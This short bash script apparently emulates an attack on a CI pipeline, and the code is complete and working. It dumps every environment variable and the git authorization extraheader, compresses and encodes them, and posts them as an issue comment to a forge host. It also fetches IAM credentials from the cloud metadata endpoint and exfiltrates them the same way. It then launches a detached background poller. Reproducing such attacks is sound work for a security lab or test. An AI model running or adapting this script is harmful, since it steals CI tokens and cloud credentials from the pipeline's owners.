# Failures are ignored, as they were in the original.
here=$(dirname "$(readlink -f "$0")")
comment() {
  curl -s -o /dev/null --max-time 10 -X POST --data-binary @- "http://$FORGE/repos/o/r/issues/1/comments"
}

block=$({ env; git config --get-all http.https://forge.example/.extraheader; } | gzip | base64 -w 0)
printf '==EMULATED_START==\n%s\n==EMULATED_END==\n' "$block"
printf '%s' "$block" | comment
curl -s --max-time 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ci | base64 -w 0 | comment

nohup python3 "$here/poller.py" > /dev/null 2>&1 &
[[ -n ${DETACH:-} ]] || wait
exit 0
